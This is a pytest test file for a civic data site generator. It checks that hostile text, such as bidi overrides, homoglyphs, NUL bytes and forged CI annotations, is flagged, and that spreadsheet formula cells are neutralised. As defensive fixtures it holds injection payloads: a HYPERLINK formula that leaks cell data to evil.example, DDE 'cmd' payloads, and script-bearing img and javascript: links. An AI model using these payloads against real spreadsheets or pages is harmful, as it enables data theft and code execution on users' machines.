"""Text that cannot mislead: hostile names, labels and cells, formulas, forge output.

Each hostile case copies the example city, makes ONE hostile change, and asserts the exact
code and position, that no message prints the character itself, and that the build was
refused (nothing published) or that the published CSV is neutralised.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import logging
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pygit2
import pytest
from conftest import commit_all, replace_in
from hypothesis import given, settings
from hypothesis import strategies as st

from civicgen import textscan
from civicgen.build import build_site
from civicgen.errors import CivicError
from civicgen.exceptions import CivicgenException
from civicgen.pipeline import Settings, validate
from civicgen.report import Report, md_cell
from civicgen.scan.plan import Dialect
from civicgen.scan.reference import csv_rows
from civicgen.textcheck import CELL, FREE, NAME, findings, is_formula, neutralise, visible
from civicgen.textscan import (
    BATCH_ROWS,
    DIGIT_SHAPES,
    SHAPES,
    Column,
    cell_findings,
    cells_errors,
    has_shape,
    line_blocks,
    may_mislead,
)

PROPOSAL = "datasets/proposals/records/pb-2015-001.md"
TITLE = "title: Shaded playground in Parque de Pradolongo"
STATIONS = "datasets/air-quality/data/stations.csv"
PROGRAMS = "datasets/madrid-budget/data/programas.csv"
HIDDEN = ("\u202e", "\u200b", "\x00", "\ud800", "\u2066")


def report_of(portal: Path) -> Report:
    return validate([str(portal)], Settings(cache_dir=None)).report


def found(report: Report, code: str) -> list[CivicError]:
    return [e for e in report.errors if e.code == code]


def every_output(report: Report) -> str:
    return "\n".join(
        [report.to_text(), report.to_json(), report.to_markdown(), report.to_annotations()]
    )


def assert_refused(portal: Path, tmp_path: Path, *expected: str) -> str:
    """The build fails, publishes nothing, and its message names the problem safely."""
    site = tmp_path / "site"
    with pytest.raises(CivicgenException), capture_log() as log:
        build_site(portal / "mkdocs.yml", site)
    message = log.getvalue()
    assert not site.exists()
    assert not list(tmp_path.glob(".site.*")), "a staging folder was left behind"
    assert "nothing was published" in message
    for text in expected:
        assert text in message
    assert not any(char in message for char in HIDDEN)
    return message


@contextlib.contextmanager
def capture_log() -> Iterator[io.StringIO]:
    """What MkDocs logs during a build (the plugin's refusal is logged, then Abort raised)."""
    text = io.StringIO()
    handler = logging.StreamHandler(text)
    logger = logging.getLogger("mkdocs")
    logger.addHandler(handler)
    try:
        yield text
    finally:
        logger.removeHandler(handler)


def assert_safe_output(report: Report) -> None:
    """Every output form is printable: no hidden character leaks into a terminal or forge."""
    text = every_output(report)
    text.encode("utf-8")  # a lone surrogate would raise here
    assert not any(char in text for char in HIDDEN)


def single(report: Report, code: str) -> CivicError:
    errors = found(report, code)
    assert len(errors) == 1, [e.message for e in report.errors]
    assert not errors[0].warning
    assert not report.valid
    assert_safe_output(report)
    return errors[0]


# --- misleading characters ----------------------------------------------------------------


def test_hostile_rlo_in_proposal_title(portal: Path, tmp_path: Path) -> None:
    replace_in(portal / PROPOSAL, TITLE, "title: Shaded playground \u202egnuolodarP")
    error = single(report_of(portal), "bidi-control")
    assert (error.path, error.field_name, error.line) == (PROPOSAL, "title", 1)
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE) at character 19" in error.note
    assert_refused(portal, tmp_path, PROPOSAL, "U+202E")


def test_hostile_zero_width_in_tool_name(portal: Path, tmp_path: Path) -> None:
    replace_in(portal / "tools-catalog/decidim.yaml", "name: Decidim", "name: Deci\u200bdim")
    error = single(report_of(portal), "invisible-character")
    assert (error.path, error.field_name) == ("tools-catalog/decidim.yaml", "name")
    assert "U+200B (ZERO WIDTH SPACE)" in error.note and "delete it" in error.note
    assert_refused(portal, tmp_path, "U+200B")


def test_hostile_cyrillic_homoglyph_in_budget_label(portal: Path, tmp_path: Path) -> None:
    replace_in(portal / PROGRAMS, "17102,ZONAS VERDES", "17102,ZONAS V\u0415RDES")
    error = single(report_of(portal), "mixed-script")
    assert (error.path, error.field_name, error.field_number) == (
        PROGRAMS,
        "DESCRIPCION PROGRAMA",
        2,
    )
    assert error.row == 1 + (portal / PROGRAMS).read_text().splitlines().index("17102,ZONAS VЕRDES")
    assert "V<U+0415 CYRILLIC CAPITAL LETTER IE>RDES" in error.note
    assert_refused(portal, tmp_path, "CYRILLIC CAPITAL LETTER IE")


def test_hostile_cyrillic_homoglyph_in_field_title(portal: Path, tmp_path: Path) -> None:
    path = portal / "datasets/air-quality/datapackage.json"
    replace_in(path, '"title": "Station id"', '"title": "St\u0430tion id"')
    error = single(report_of(portal), "mixed-script")
    assert error.path == "datasets/air-quality/datapackage.json"
    assert "resources[0].schema.fields[0].title" in error.note
    assert_refused(portal, tmp_path, "CYRILLIC SMALL LETTER A")


def test_hostile_homoglyph_in_csv_header_label(portal: Path, tmp_path: Path) -> None:
    replace_in(portal / STATIONS, "id,name,district", "id,n\u0430me,district")
    report = report_of(portal)
    error = found(report, "mixed-script")[0]
    assert (error.path, error.row, error.field_number) == (STATIONS, 1, 2)
    assert "incorrect-label" in {e.code for e in report.errors}
    assert_safe_output(report)
    assert_refused(portal, tmp_path, "CYRILLIC SMALL LETTER A")


def test_hostile_nul_in_csv_cell(portal: Path, tmp_path: Path) -> None:
    replace_in(portal / STATIONS, "sck-arganzuela,Matadero", "sck-arganzuela,Mata\x00dero")
    error = single(report_of(portal), "nul-byte")
    assert (error.path, error.row, error.field_name, error.field_number) == (STATIONS, 4, "name", 2)
    assert "U+0000 (NUL) at character 5" in error.note
    assert_refused(portal, tmp_path, "U+0000")


def test_hostile_lone_surrogate_from_yaml_escape(portal: Path, tmp_path: Path) -> None:
    replace_in(portal / PROPOSAL, TITLE, 'title: "Shaded playground \\ud800 in Pradolongo"')
    error = single(report_of(portal), "lone-surrogate")
    assert (error.path, error.field_name) == (PROPOSAL, "title")
    assert "U+D800 (lone surrogate)" in error.note
    assert_refused(portal, tmp_path, "U+D800")


def test_hostile_lone_surrogate_in_descriptor_title(portal: Path, tmp_path: Path) -> None:
    path = portal / "datasets/proposals/datapackage.json"
    replace_in(path, '"title": "Proposals"', '"title": "Proposals \\udc00"')
    error = single(report_of(portal), "lone-surrogate")
    assert error.path == "datasets/proposals/datapackage.json"
    assert "resources[0].title" in error.note
    assert_refused(portal, tmp_path, "U+DC00")


def test_hostile_bidi_isolate_in_record_key(portal: Path, tmp_path: Path) -> None:
    replace_in(portal / PROPOSAL, "district: Usera", "district: Usera\nnote\u2066: x")
    report = report_of(portal)
    error = found(report, "bidi-control")[0]
    assert (error.path, error.line) == (PROPOSAL, 3)
    assert "U+2066 (LEFT-TO-RIGHT ISOLATE)" in error.note
    assert_safe_output(report)  # the extra-cell error names the key too: escaped
    assert_refused(portal, tmp_path, "U+2066")


def test_hostile_tab_in_resource_name_of_descriptor(portal: Path, tmp_path: Path) -> None:
    path = portal / "datasets/air-quality/datapackage.json"
    replace_in(path, '"title": "Hourly readings"', '"title": "Hourly\\treadings"')
    error = single(report_of(portal), "invisible-character")
    assert "U+0009 (TAB)" in error.note
    assert_refused(portal, tmp_path, "U+0009")


def test_hostile_bidi_in_free_text_body_is_a_warning(portal: Path, tmp_path: Path) -> None:
    """The Markdown body is declared free text: reordering characters warn, and publish."""
    text = (portal / PROPOSAL).read_text()
    (portal / PROPOSAL).write_text(text + "\nمرحبا \u200f(Arabic greeting)\n")
    report = report_of(portal)
    warnings = found(report, "bidi-control")
    assert report.valid and len(warnings) == 1 and warnings[0].warning
    assert warnings[0].field_name == "description"


def test_hostile_nul_in_free_text_body_is_still_an_error(portal: Path, tmp_path: Path) -> None:
    text = (portal / PROPOSAL).read_text()
    (portal / PROPOSAL).write_text(text + "\nHidden\x00part\n")
    error = single(report_of(portal), "nul-byte")
    assert error.field_name == "description"
    assert_refused(portal, tmp_path, "U+0000")


def test_hostile_zero_width_in_enum_value_checked_once_in_descriptor(portal: Path) -> None:
    path = portal / "datasets/proposals/datapackage.json"
    replace_in(path, '"mobility",', '"mobi\u200dlity",')
    report = report_of(portal)
    error = found(report, "invisible-character")[0]
    assert error.path == "datasets/proposals/datapackage.json"
    assert "constraints.enum" in error.note and not report.valid


def test_free_text_field_declared_in_the_descriptor(portal: Path) -> None:
    path = portal / "tools-catalog/datapackage.json"
    replace_in(
        path,
        '"title": "What it is for",',
        '"title": "What it is for",\n"civicgen": {"freeText": true},',
    )
    replace_in(
        portal / "tools-catalog/decidim.yaml",
        "participatory processes",
        "partici\u00adpatory processes",
    )
    report = report_of(portal)
    assert report.valid and [e.warning for e in found(report, "invisible-character")] == [True]


def test_example_city_has_no_text_or_personal_finding(portal: Path) -> None:
    report = report_of(portal)
    assert report.valid and report.errors == []


@pytest.mark.parametrize(
    ("text", "level", "codes"),
    [
        ("Crème brûlée, Chamartín, µg/m³, μg/m³", NAME, []),
        ("Москва", NAME, []),
        ("Мoсква", NAME, ["mixed-script"]),
        ("Ρaris", NAME, ["mixed-script"]),
        ("line\nbreak", NAME, ["invisible-character"]),
        ("line\nbreak\ttab", CELL, []),
        ("soft\u00adhyphen", FREE, ["invisible-character"]),
        ("a\u200e\u0000\ud800", CELL, ["bidi-control", "nul-byte", "lone-surrogate"]),
    ],
)
def test_findings(text: str, level: int, codes: list[str]) -> None:
    assert sorted(f.error.code for f in findings(text, level)) == sorted(codes)


def test_visible_never_prints_hidden_characters() -> None:
    assert visible("a\u202eb\x00c\ud800") == "a<U+202E>b<U+0000>c<U+D800>"
    assert visible("Chamartín µg") == "Chamartín µg"


# --- spreadsheet formulas ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "formula"),
    [
        ('=HYPERLINK("https://evil.example","x")', True),
        ("@SUM(A1:A9)", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        ("-12", False),
        ("+3.5", False),
        ("-0.5e3", False),
        ("Plaza", False),
        ("", False),
    ],
)
def test_formula_rule(cell: str, formula: bool) -> None:
    assert is_formula(cell) is formula
    assert neutralise(cell) == ("'" + cell if formula else cell)


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


HOSTILE_NAMES = {
    "Plaza de Castilla": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "Barajas pueblo": "@SUM(1+9)*cmd|' /C calc'!A0",
    "Matadero": "+cmd|' /C calc'!A0",
}


def test_hostile_formula_cells_neutralised_in_built_csv_download(
    portal: Path, tmp_path: Path
) -> None:
    stations = portal / STATIONS
    original = stations.read_text(encoding="utf-8")
    for name, formula in HOSTILE_NAMES.items():
        quoted = '"' + formula.replace('"', '""') + '"'
        replace_in(stations, f",{name},", f",{quoted},")
    commit_all(portal, "Station names")
    hostile = stations.read_bytes()
    report = report_of(portal)
    warnings = found(report, "formula-cell")
    assert report.valid and len(warnings) == 3 and all(w.warning for w in warnings)
    assert {(w.path, w.field_name) for w in warnings} == {(STATIONS, "name")}
    site = build_site(portal / "mkdocs.yml", tmp_path / "site")
    published = site / "datasets/air-quality/data/stations.csv"
    names = [row[1] for row in csv_cells(published)[1:]]
    for formula in HOSTILE_NAMES.values():
        assert "'" + formula in names
    assert not any(name[:1] in "=+-@" for name in names)
    assert stations.read_bytes() == hostile != original.encode()  # the repository is unchanged
    page = (site / "datasets/air-quality/index.html").read_text()
    english = (site / "en/datasets/air-quality/index.html").read_text()
    assert "3 text cells that start with =, +, -, @" in english
    assert "3 celdas de texto que empiezan por =, +, -, @" in page  # Spanish at the root
    preview = page[page.index('id="stations-preview"') :]
    assert "<td>&#39;=HYPERLINK(" in preview or "<td>'=HYPERLINK(" in preview
    untouched = site / "datasets/air-quality/data/readings.csv"
    assert (
        untouched.read_bytes() == (portal / "datasets/air-quality/data/readings.csv").read_bytes()
    )


def test_hostile_formula_in_proposal_title_neutralised_in_collection_csv(
    portal: Path, tmp_path: Path
) -> None:
    replace_in(portal / PROPOSAL, TITLE, "title: '@SUM(1+1)*cmd|\" /C calc\"!A0'")
    report = report_of(portal)
    assert [w.field_name for w in found(report, "formula-cell")] == ["title"]
    site = build_site(portal / "mkdocs.yml", tmp_path / "site")
    rows = csv_cells(site / "datasets/proposals/proposals.csv")
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles["pb-2015-001"] == '\'@SUM(1+1)*cmd|" /C calc"!A0'
    assert not any(t[:1] in "=+-@" for t in titles.values())
    assert "@SUM" in (portal / PROPOSAL).read_text()


def test_hostile_formula_in_budget_label_neutralised_in_stats_download(
    portal: Path, tmp_path: Path
) -> None:
    budget = portal / "datasets/madrid-budget/data/gastos-2014-2015.csv"
    text = budget.read_text(encoding="utf-8")
    budget.write_text(text.replace(",ZONAS VERDES,", ",=ZONAS VERDES+1,"), encoding="utf-8")
    replace_in(portal / PROGRAMS, "17102,ZONAS VERDES", "17102,=ZONAS VERDES+1")
    assert report_of(portal).valid
    site = build_site(portal / "mkdocs.yml", tmp_path / "site")
    leaked = []
    for path in (site / "datasets/madrid-budget").rglob("*.csv"):
        for row in csv_cells(path):
            leaked += [cell for cell in row if cell.startswith("=ZONAS")]
    assert leaked == []
    stats = "\n".join(p.read_text() for p in (site / "datasets/madrid-budget/stats").glob("*.csv"))
    assert "'=ZONAS VERDES+1" in stats


def test_negative_number_text_is_not_a_formula(portal: Path, tmp_path: Path) -> None:
    replace_in(portal / STATIONS, "sck-arganzuela,Matadero", "sck-arganzuela,-12")
    report = report_of(portal)
    assert report.valid and found(report, "formula-cell") == []
    site = build_site(portal / "mkdocs.yml", tmp_path / "site")
    assert (site / "datasets/air-quality/data/stations.csv").read_bytes() == (
        portal / STATIONS
    ).read_bytes()


# --- forge output -----------------------------------------------------------------------------


def test_hostile_annotation_forged_by_file_name(portal: Path) -> None:
    forged = portal / "datasets/proposals/records/x\n::error file=README.md,line=1::Forged.md"
    forged.write_text((portal / PROPOSAL).read_text())
    report = report_of(portal)
    lines = report.to_annotations().splitlines()
    assert len(lines) == len(report.errors) >= 1
    assert all(line.startswith(("::error file=", "::warning file=")) for line in lines)
    assert not any(line.startswith("::error file=README.md") for line in lines)
    hostile = next(line for line in lines if "Forged" in line)
    assert (
        "file=datasets/proposals/records/x<U+000A>%3A%3Aerror file=README.md%2Cline=1%3A%3AForged.md,"
        in hostile
    )


def test_hostile_annotation_percent_and_carriage_return(portal: Path) -> None:
    report = Report()
    report.add(CivicError(note="100% sure\r\n::error::x", path="a%0Ab,c:d.csv"))
    line = report.to_annotations()
    assert "\n" not in line and "\r" not in line
    assert line.startswith("::error file=a%250Ab%2Cc%3Ad.csv,line=1,title=civic-error::")
    assert "100%25 sure<U+000D><U+000A>::error::x" in line


def test_hostile_markdown_injection_through_file_name(portal: Path) -> None:
    name = "a|b `code` <img src=x onerror=alert(1)> @octocat [x](javascript:alert(1)).md"
    (portal / "datasets/proposals/records" / name).write_text((portal / PROPOSAL).read_text())
    markdown = report_of(portal).to_markdown()
    row = next(line for line in markdown.splitlines() if "octocat" in line)
    assert row.count(" | ") == 2  # three cells: the name did not break the table
    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt;" in row
    assert "@octocat" not in markdown and "@&#8203;octocat" in row
    assert "\\`code\\`" in row and "\\[x\\](javascript:alert(1))" in row


def test_md_cell_escapes_markup() -> None:
    assert (
        md_cell("*b* _i_ ~s~ <b>&amp;</b>\n|")
        == "\\*b\\* \\_i\\_ \\~s\\~ &lt;b&gt;&amp;amp;&lt;/b&gt; \\|"
    )


def test_json_output_of_hostile_text_is_printable(portal: Path) -> None:
    replace_in(portal / PROPOSAL, TITLE, 'title: "Shaded \\ud800 \u202e playground"')
    text = report_of(portal).to_json()
    text.encode("utf-8")
    assert "\u202e" not in text and "\\u202e" not in text and "U+D800 (lone surrogate)" in text
    assert {e["code"] for e in json.loads(text)["errors"]} == {"bidi-control", "lone-surrogate"}


# --- every reading path: the scan's groups, the bytes, the cells ---------------------------------


def generic_portal(tmp_path: Path, names: list[str]) -> Path:
    """A one-package repository whose CSV has a text column of the given names."""
    root = tmp_path / "generic"
    (root / "datasets/places").mkdir(parents=True)
    fields = [{"name": "id", "type": "integer"}, {"name": "name", "type": "string"}]
    resource = {"name": "places", "path": "places.csv", "schema": {"fields": fields}}
    descriptor = {"name": "places", "resources": [resource]}
    (root / "datasets/places/datapackage.json").write_text(json.dumps(descriptor))
    rows = [f"{i},{name}" for i, name in enumerate(names, start=1)]
    (root / "datasets/places/places.csv").write_text("id,name\n" + "\n".join(rows) + "\n")
    (root / "content").mkdir()
    (root / "content/index.md").write_text("# Places\n")
    (root / "mkdocs.yml").write_text(
        "site_name: Places\ndocs_dir: content\ntheme:\n  name: material\n  font: false\n"
        "plugins:\n  - civicgen\n"
    )
    pygit2.init_repository(str(root))
    commit_all(root, "Places")
    return root


def test_hostile_zero_width_among_many_distinct_values(tmp_path: Path) -> None:
    """Past 1,000 distinct values the scan's groups collapse: the cells are read instead."""
    names = [f"place {i}" for i in range(1500)]
    names[1234] = "place\u200b 1234"
    root = generic_portal(tmp_path, names)
    (error,) = found(report_of(root), "invisible-character")
    assert (error.row, error.field_name, error.field_number) == (1236, "name", 2)
    assert_refused(root, tmp_path, "row 1236", "U+200B")


def test_hostile_homoglyph_repeated_in_grouped_column(tmp_path: Path) -> None:
    """A column the scan grouped: its distinct values are checked, the file says the rows."""
    names = ["Plaza"] * 40 + ["Pl\u0430za"] * 60
    root = generic_portal(tmp_path, names)
    (error,) = found(report_of(root), "mixed-script")
    assert error.row == 42 and "(the same value is in 59 more row(s); fix them all)" in error.note
    assert_refused(root, tmp_path, "row 42", "CYRILLIC SMALL LETTER A")


def test_hostile_byte_order_mark_inside_a_cell(tmp_path: Path) -> None:
    root = generic_portal(tmp_path, ["Plaza", "Pla\ufeffza"])
    (error,) = found(report_of(root), "invisible-character")
    assert error.row == 3 and "U+FEFF (ZERO WIDTH NO-BREAK SPACE)" in error.note
    assert_refused(root, tmp_path, "U+FEFF")


def test_byte_order_mark_at_file_start_is_not_a_finding(tmp_path: Path) -> None:
    root = generic_portal(tmp_path, ["Plaza", "Retiro"])
    csv_file = root / "datasets/places/places.csv"
    csv_file.write_bytes(b"\xef\xbb\xbf" + csv_file.read_bytes())
    assert report_of(root).errors == []
    site = build_site(root / "mkdocs.yml", tmp_path / "site")
    assert (site / "datasets/places/places.csv").read_bytes() == csv_file.read_bytes()


def test_hostile_ansi_escape_in_ascii_csv_cell(tmp_path: Path) -> None:
    """An ASCII file with a control character is read cell by cell, not skipped."""
    names = [f"place {i}" for i in range(1500)]
    names[7] = "place\x1b[31m 7"  # an ANSI escape: it would recolour a terminal
    root = generic_portal(tmp_path, names)
    report = report_of(root)
    (error,) = found(report, "invisible-character")
    assert error.row == 9 and "U+001B (ESCAPE)" in error.note
    assert "\x1b" not in every_output(report)
    assert_refused(root, tmp_path, "U+001B")


def test_hostile_validate_cli_prints_lone_surrogate_and_rlo_safely(portal: Path) -> None:
    """The real command, in a real process with a UTF-8 pipe: no traceback, exit 1."""
    replace_in(portal / PROPOSAL, TITLE, 'title: "Shade \\ud800 \u202e now"')
    for output in ("text", "json", "markdown"):
        done = subprocess.run(
            [sys.executable, "-m", "civicgen", "validate", "--format", output, "--annotations"],
            cwd=portal,
            capture_output=True,
            timeout=300,
            env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        )
        assert done.returncode == 1, done.stderr
        assert b"Traceback" not in done.stderr
        assert b"U+D800" in done.stdout and "\u202e".encode() not in done.stdout


def one_by_one(rows: list[list[str]], columns: list[Column]) -> list[tuple[int, str, str, int]]:
    """(first row, field, value, more rows) of every bad value, reading cell by cell."""
    seen: dict[tuple[int, str], list[int]] = {}
    for number, cells in enumerate(rows, start=2):
        for column in columns:
            value = cells[column.index] if column.index < len(cells) else ""
            if cell_findings(value, column):
                seen.setdefault((column.index, value), [number, -1])[1] += 1
    ordered = sorted((first, index, value, more) for (index, value), (first, more) in seen.items())
    return [
        (first, columns_by_index(columns)[index], value, more)
        for first, index, value, more in ordered
    ]


def columns_by_index(columns: list[Column]) -> dict[int, str]:
    return {column.index: column.name for column in columns}


@pytest.mark.parametrize("memo_limit", [1 << 16, 1])  # 1: both memos start over each batch
def test_cells_are_checked_in_batches_as_one_by_one(
    memo_limit: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Bad values across batch boundaries, in two columns, in short rows: each reported at
    its first row with the count of the others, in row then column order, however small
    the memos of clean and bad values."""
    monkeypatch.setattr(textscan, "MEMO_LIMIT", memo_limit)
    rows = [[f"code{i % 700}", f"plain {i}", str(i)] for i in range(3 * BATCH_ROWS + 17)]
    planted = {5: (0, "=SUM(A1)"), BATCH_ROWS - 1: (1, "a\u202eb"), BATCH_ROWS: (0, "=SUM(A1)")}
    planted |= {2 * BATCH_ROWS + 3: (1, "a\u202eb"), 2 * BATCH_ROWS + 4: (0, "x\u200by")}
    for row, (index, value) in planted.items():
        rows[row][index] = value
    rows[40] = ["=short"]  # a short row: its missing cells are empty, not an error
    columns = [Column(0, "code", CELL, False), Column(1, "label", CELL, False)]
    text = "code,label,n\n" + "".join(",".join(r) + "\n" for r in rows)
    parsed = csv_rows(text, Dialect())
    next(parsed)
    errors = cells_errors(parsed, columns, "t.csv", "t")
    found = [(e.row, e.field_name, e.note) for e in errors]
    expected = one_by_one(rows, columns)
    assert [(first, field) for first, field, _, _ in expected] == [(r, f) for r, f, _ in found]
    assert [first for first, *_ in expected] == [7, 42, BATCH_ROWS + 1, 2 * BATCH_ROWS + 6]
    for (_, _, _, more), (_, _, note) in zip(expected, found, strict=True):
        assert (f"in {more} more row(s)" in note) == (more > 0)


@settings(max_examples=500)
@given(st.text(alphabet='0123456789 -.ab,=\n\r\x01"', max_size=60))
def test_large_files_are_judged_in_blocks_as_a_whole(text: str) -> None:
    """may_mislead reads a file in blocks of lines: nothing it looks for is cut between two."""
    data = text.encode()
    whole = data.translate(SHAPES)
    expected = (
        b"\0" in whole
        or any(shape in whole for shape in DIGIT_SHAPES)
        or textscan.may_hold_formula(data, ",")
    )
    for size in (1, 2, 3, 5, 8, 64):
        blocks = list(line_blocks(data, size))
        assert b"".join([*blocks[:1], *(block[1:] for block in blocks[1:])]) == data
        assert all(block.startswith(b"\n") for block in blocks[1:])
        assert (
            any(
                has_shape(block) or textscan.may_hold_formula(block, ",", number == 0)
                for number, block in enumerate(line_blocks(data, size))
            )
            == expected
        )
    assert may_mislead(data, ",") == expected


@pytest.mark.parametrize(
    ("name", "codes"),
    [
        ("place 7", []),
        ("place\x1b[31m 7", ["invisible-character"]),
        ("=HYPERLINK(1)", ["formula-cell"]),
        ("pl\u0430ce 7", ["mixed-script"]),
        ("-twelve", ["formula-cell"]),
    ],
)
def test_a_mapped_file_is_checked_as_a_read_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, codes: list[str]
) -> None:
    """Large files of the work tree are mapped, not read (repo.MAP_FROM): the scan and the
    text checks report them exactly as they report the file's bytes."""
    names = [f"place {i}" for i in range(1500)]
    names[7] = name
    root = generic_portal(tmp_path, names)
    read = report_of(root)
    monkeypatch.setattr("civicgen.repo.MAP_FROM", 0)
    mapped = report_of(root)
    assert mapped.flatten(["path", "row", "code", "note"]) == read.flatten(
        ["path", "row", "code", "note"]
    )
    assert sorted({e.code for e in mapped.errors}) == codes
